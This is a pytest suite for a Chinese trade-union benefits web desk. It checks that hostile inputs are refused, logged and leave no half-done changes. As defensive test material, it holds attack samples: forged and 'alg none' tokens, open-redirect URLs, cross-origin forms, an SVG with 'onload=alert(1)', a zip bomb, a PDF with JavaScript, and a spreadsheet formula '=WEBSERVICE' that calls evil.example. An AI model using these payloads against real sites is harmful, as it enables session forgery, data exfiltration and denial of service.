"""The list of bad input of the officers' pages, walked as one on a site with real sessions.

Each row of ``ROWS`` is refused in words, leaves no half of an act, and shows no traceback; what is an attack, and not a
slip of the keyboard, is also in the audit log or among the counted refusals.
"""

import base64
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import datetime, time, timedelta
from html import unescape
from io import BytesIO
from pathlib import Path
from shutil import copy
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
import xlsxwriter
from sqlalchemy import func, select

from benefits.tables.rulebook import rule_acts
from core.civil_time import CIVIL_TIME, civil_date
from members.tables import application_steps
from store import metadata
from tests.benefits.deciding import Wish, give
from tests.members.organisations.acting import codes_of, event_of, handle
from tests.yihui.access.officers import NOW, add_officer, appoint
from tests.yihui.files.bank.paying import PAYEES, TERMS
from tests.yihui.files.test_pictures import bomb, document
from tests.yihui.http.desk.test_rule_form import NOTICE
from tests.yihui.http.login.officers_browser import Browser
from tests.yihui.services.forged_provider import OTHER_KEY, SUBJECT, ForgedProvider, forged_provider, sign
from tests.yihui.services.logging_in import Clock, Installation
from yihui.access.roles import Role
from yihui.access.tables import audit_entries
from yihui.bootstrap import Settings, build_wiring
from yihui.runtime.demo_marker import DEMO_MARKER_FILE
from yihui.services.members.vault_upkeep import create_vault_key

UNION, OWN = "370102001-00001", "m-1"
AUTHOR, APPROVER, RELEASER, LEAVER = "wang", "zhao", "sun", "old"
OFFICERS = {
    AUTHOR: Role.RULE_AUTHOR,
    APPROVER: Role.RULE_APPROVER,
    "qian": Role.FINANCE_PREPARER,
    RELEASER: Role.FINANCE_RELEASER,
    "wu": Role.CASE_WORKER,
    LEAVER: Role.CASE_WORKER,
}
AID = {"programme": "困难帮扶", "year": 2026, "case_level": "深度困难"}
# What a refused act must leave as it was; sessions, form keys and the audit log change with each visit.
UNCHANGED = (
    "rule_versions", "payout_batches", "application_acts", "attachments", "memberships", "grants",
    "postings", "join_requests", "inbox",
)  # fmt: skip


@dataclass
class Walk:
    """A site, its identity provider, and a browser for each officer."""

    desk: Installation
    provider: ForgedProvider
    folder: Path
    browsers: dict[str, Browser] = field(default_factory=dict)

    def at(self, officer: str) -> Browser:
        """Return the officer's browser, logged in within the last minutes."""
        browser = self.browsers.setdefault(officer, Browser(self.desk))
        assert browser.log_in(officer).status_code == 303
        return browser

    def counts(self) -> dict[str, int]:
        tables = [metadata.tables[name] for name in UNCHANGED]
        with self.desk.wiring.database.read() as connection:
            return {
                t.name: connection.execute(select(func.count()).select_from(t)).scalar_one() for t in tables
            }

    def logged(self) -> int:
        """Return how many refusals are counted, and how many entries of the audit log name one."""
        query = select(func.count()).select_from(audit_entries).where(audit_entries.c.act.like("%refuse%"))
        with self.desk.wiring.database.read() as connection:
            entries = connection.execute(query).scalar_one()
        text = self.desk.wiring.metrics.render_text().decode()
        counted = re.findall(r"^yihui_refused_total\{[^}]*\} ([\d.]+)", text, re.MULTILINE)
        return entries + round(sum(map(float, counted)))


@pytest.fixture(scope="module")
def walk(migrated_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Walk]:
    folder: Path = tmp_path_factory.mktemp("walk")
    (folder / DEMO_MARKER_FILE).unlink(missing_ok=True)
    with forged_provider() as provider:
        clock = Clock(NOW + timedelta(days=3))
        settings = Settings(str(copy(migrated_file, folder / "yihui.db")), folder, oidc=provider.access)
        desk = Installation(build_wiring(settings, clock), clock)
        clock.pass_time(days=-2)  # a new log-in counts as a second person after one day
        for officer, role in OFFICERS.items():
            desk.enrol(officer)
            with desk.wiring.database.write() as connection:
                until = civil_date(clock.now + timedelta(days=2)) if officer == LEAVER else None
                appoint(connection, officer, role, "370000", until=until)
        clock.pass_time(days=2)
        plant(desk, provider)
        yield Walk(desk, provider, folder)
        desk.wiring.close()


def plant(desk: Installation, provider: ForgedProvider) -> None:
    """Found a union with a member who has applied, two open payments, and an account at the provider."""
    founded = (("370102", "历下区总工会"), ("370102001", "解放路街道工会"), (UNION, "泉城物流工会"))
    acts = [event_of("organisation.founded", code, "2020-01-01", name=name) for code, name in founded]
    acts += [
        event_of("member.joined", one, "2026-03-01", organisation=UNION, joined_on="2026-03-01")
        for one in (OWN, "m-2")
    ]
    acts.append(event_of("application.submitted", OWN, "2026-09-21", **AID))
    create_vault_key(desk.wiring)
    with desk.wiring.database.write() as connection:
        assert codes_of(handle(connection, *acts)) == []
        add_officer(connection, "li", issuer=provider.issuer, login=SUBJECT)
    give(desk.wiring.database, Wish("m-1", amount_fen=20_000), Wish("m-2", amount_fen=7))


def words_of(answer: Any) -> str:
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", answer.text)).split())


def form_key(browser: Browser, page: str) -> str:
    found = re.search(r'name="form_key" value="([^"]+)"', browser.get(page).text)
    assert found is not None, page
    return found[1]


def post(browser: Browser, path: str, page: str, files: Any = None, origin: str = "", **fields: str) -> Any:
    """Send a form of a page with a key of its own, ticked as checked."""
    sent = {"checked": "yes", **fields}
    if "form_key" not in sent:
        sent["form_key"] = form_key(browser, page)
    headers = {"origin": origin or browser.site, "accept": "text/html"}
    return browser.client.post(path, data=sent, files=files, headers=headers)


# ---- log-in by the provider -------------------------------------------------------------------


def log_in_with(walk: Walk, token: Callable[[dict[str, Any]], str], again: bool = False) -> Any:
    """Come back from the provider with a token; ``again``: with the same answer a second time."""
    browser = Browser(walk.desk)
    asked = parse_qs(urlsplit(browser.get("/desk/oidc/start").headers["location"]).query)
    now = int(walk.desk.clock.now.timestamp())
    claims = walk.provider.claims(asked["nonce"][0], iat=now, exp=now + 300, auth_time=now)
    walk.provider.id_token = token(claims)
    callback = f"/desk/oidc/callback?state={asked['state'][0]}&code=c&iss={walk.provider.issuer}"
    first = browser.get(callback)
    if again:
        assert first.status_code == 303, "the answer itself is right"
        return browser.get(callback)
    assert browser.session_token == ""
    return first


def unsigned(claims: dict[str, Any]) -> str:
    def part(value: object) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

    return f"{part({'alg': 'none'})}.{part(claims)}."


def shifted(claims: dict[str, Any]) -> str:
    later = {name: claims[name] + 600 for name in ("iat", "auth_time", "exp")}
    return sign({**claims, **later})


# ---- sessions, roles and forms ----------------------------------------------------------------


def foreign_form(walk: Walk, origin: str) -> Any:
    browser, page = walk.at("wu"), f"/desk/members/{OWN}"
    return post(browser, f"{page}/acts", page, origin=origin, kind="suspend", on="2026-10-03", reason="欠费")


def after_logging_out(walk: Walk) -> Any:
    browser = Browser(walk.desk)
    browser.log_in("wu")
    token = browser.session_token
    key = form_key(browser, f"/desk/members/{OWN}")
    browser.send("/desk/logout", "/desk")
    browser.client.cookies.set("__Host-yihui-desk", token)
    answer = post(browser, f"/desk/members/{OWN}/acts", "", form_key=key, kind="leave", on="2026-10-03")
    assert answer.status_code == 303
    return browser.get(answer.headers["location"])


def role_ended_at_midnight(walk: Walk) -> Any:
    """Open a page a quarter of an hour after the last day of the officer's only role, in the session of that day."""
    clock = walk.desk.clock
    clock.now = datetime.combine(civil_date(clock.now), time(23, 50), CIVIL_TIME)
    browser = walk.at(LEAVER)
    assert browser.get("/desk/members").status_code == 200
    clock.pass_time(minutes=15)
    return browser.get("/desk/members")


def both_at_once(send: Callable[[int], Any]) -> list[Any]:
    with ThreadPoolExecutor(2) as pool:
        return sorted(pool.map(send, range(2)), key=lambda answer: int(answer.status_code))


def two_tabs_approve(walk: Walk) -> Any:
    """Approve one version from two tabs, each with a form of its own; return what the later one is told."""
    author, page = walk.at(AUTHOR), "/desk/rules/form"
    version = post(author, page, page, **NOTICE).headers["location"].partition("?")[0]
    approver = walk.at(APPROVER)
    keys = [form_key(approver, version) for _ in range(2)]
    first, second = both_at_once(lambda tab: post(approver, f"{version}/approve", "", form_key=keys[tab]))
    assert first.status_code == 303, first.text
    with walk.desk.wiring.database.read() as connection:
        acts = connection.execute(select(rule_acts.c.act)).scalars().all()
    assert sorted(acts) == ["approved", "submitted"]
    return second


def double_click_on_release(walk: Walk) -> Any:
    """Send the form of a release twice at once; the batch is released once, and both clicks lead to it."""
    page = "/desk/money/payouts"
    files = {"bank": ("bank.yaml", TERMS.encode()), "payees": ("payees.csv", PAYEES.encode())}
    batch = post(walk.at("qian"), page, page, files).headers["location"].partition("?")[0]
    releaser = walk.at(RELEASER)
    key = form_key(releaser, batch)
    first, second = both_at_once(lambda _: post(releaser, f"{batch}/release", "", files, form_key=key))
    assert first.status_code == 303 and second.status_code in (303, 409)
    return post(releaser, f"{batch}/release", "", files, form_key=form_key(releaser, batch))


def five_megabytes(walk: Walk) -> Any:
    page = "/desk/rules/new"
    return post(walk.at(AUTHOR), page, page, text="a: 1\n" * (1 << 20))


def attached(walk: Walk, content: bytes) -> Any:
    query = select(application_steps.c.sequence).where(application_steps.c.member_id == OWN).limit(1)
    with walk.desk.wiring.database.read() as connection:
        page = f"/desk/applications/{connection.execute(query).scalar_one()}"
    return post(walk.at("wu"), f"{page}/attachments", page, {"file": ("证明", content)}, title="收入证明")


def document_with_script(walk: Walk) -> Any:
    """Attach a PDF that runs a script when it opens: it is stored, and shown as a picture of its page alone."""
    assert attached(walk, document(script=True)).status_code == 303
    shown = walk.at("wu").get("/desk/applications/attachments/1/pages/1")
    assert shown.content.startswith(b"\xff\xd8\xff") and b"JavaScript" not in shown.content
    assert "sandbox" in shown.headers["content-security-policy"]
    return walk.browsers["wu"].get("/desk/applications/attachments/1/pages/2")


def sheet_of_formulas(walk: Walk) -> Any:
    """Upload a sheet of people to join in which each number is a formula."""
    content = BytesIO()
    with xlsxwriter.Workbook(content, {"in_memory": True}) as book:
        rows = book.add_worksheet()
        rows.write_row(0, 0, ["姓名", "身份证号", "手机号"])
        for column in range(3):
            rows.write_formula(1, column, '=WEBSERVICE("https://evil.example")', value="")
    return batch_preview(walk, content.getvalue())


def batch_preview(walk: Walk, sheet: bytes) -> Any:
    """Upload a sheet of people who join; return its preview, which names each fault and stores nothing."""
    page = "/desk/members/batch"
    answer = post(walk.at("wu"), page, page, {"file": ("s.xlsx", sheet)}, organisation=UNION)
    assert answer.status_code == 303, answer.text
    return walk.browsers["wu"].get(answer.headers["location"])


def packed_sheet(walk: Walk) -> Any:
    """Upload an XLSX whose only sheet is 220 MB of zeros."""
    content = BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/worksheets/sheet1.xml", bytes(220 << 20))
    return batch_preview(walk, content.getvalue())


def redirected_log_in(walk: Walk) -> Any:
    """Log in from an address that names another site as the next page; follow where it leads."""
    browser = Browser(walk.desk)
    for foreign in ("//evil.example", "https://evil.example", "/\\evil.example"):
        answer = browser.log_in("wu", query=f"?{urlencode({'next': foreign})}")
        assert answer.headers["location"] == "/desk", foreign
    return browser.get("/desk/nowhere")


@dataclass(frozen=True, slots=True)
class Row:
    """How the input is sent, how it is answered, and what must stay; an attack is logged or counted."""

    send: Callable[[Walk], Any]
    status: int
    words: str
    is_logged: bool = False
    changes: frozenset[str] = frozenset()  # tables that the right half of the row fills


def token_row(token: Callable[[dict[str, Any]], str], words: str) -> Row:
    return Row(lambda walk: log_in_with(walk, token), 403, words, is_logged=True)


ROWS = {
    "a forged token": token_row(lambda claims: sign(claims, key=OTHER_KEY), "签名密钥"),
    "a replayed token": Row(lambda walk: log_in_with(walk, sign, again=True), 403, "已经完成", is_logged=True),
    "alg none": token_row(unsigned, "不可信任"),
    "a wrong audience": token_row(lambda claims: sign({**claims, "aud": "other"}), "发给另一个程序"),
    "a wrong issuer": token_row(lambda claims: sign({**claims, "iss": "https://evil.example"}), "另一个签发方"),
    "clock skew": token_row(shifted, "时间在未来"),
    "an open redirect": Row(redirected_log_in, 404, "没有"),
    "a form of another site": Row(lambda walk: foreign_form(walk, "https://evil.example"), 403, "其他网站", is_logged=True),
    "a form of a sub-domain": Row(lambda walk: foreign_form(walk, "https://a.127.0.0.1"), 403, "其他网站", is_logged=True),
    "a session after the log-out": Row(after_logging_out, 200, "登录"),
    "two tabs that approve at once": Row(two_tabs_approve, 422, "没有改动", changes=frozenset({"rule_versions"})),
    "a double click on release": Row(double_click_on_release, 422, "没有改动", changes=frozenset({"payout_batches", "postings"})),
    "a rule of 5 MB": Row(five_megabytes, 413, "超过 256 kB", is_logged=True),
    "a picture that unpacks to gigabytes": Row(lambda walk: attached(walk, bomb()), 422, "没有改动"),
    "a zip bomb": Row(packed_sheet, 200, "差错：1"),
    "an SVG with a script": Row(lambda walk: attached(walk, b"<svg onload=alert(1)>"), 422, "没有改动"),
    "an XLSX with formulas": Row(sheet_of_formulas, 200, "差错：3"),
    "a PDF with JavaScript": Row(document_with_script, 404, "没有", changes=frozenset({"attachments"})),
    "a search of 10,000 characters": Row(lambda walk: walk.at("wu").get(f"/desk/search?q={'x' * 10_000}"), 414, "超过 8 kB", is_logged=True),
    "a role that ended at midnight": Row(role_ended_at_midnight, 403, "角色已到期", is_logged=True),
}  # fmt: skip


@pytest.mark.parametrize("name", ROWS)
def test_bad_input_is_refused_in_words_and_leaves_nothing_half_done(walk: Walk, name: str) -> None:
    row = ROWS[name]
    before, logged = walk.counts(), walk.logged()
    answer = row.send(walk)
    said = words_of(answer)
    assert answer.status_code == row.status, said
    assert row.words in said and "Traceback" not in answer.text
    after = walk.counts()
    assert {table for table in before if after[table] != before[table]} == row.changes
    if row.is_logged:
        assert walk.logged() > logged
